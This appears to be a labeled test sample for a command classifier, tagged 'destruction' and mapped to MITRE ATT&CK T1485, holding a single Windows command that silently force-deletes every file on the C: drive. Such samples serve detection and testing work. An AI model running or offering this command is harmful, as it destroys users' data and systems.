@rem expect: destruction | source: MITRE ATT&CK T1485
del /f /s /q C:\*.*
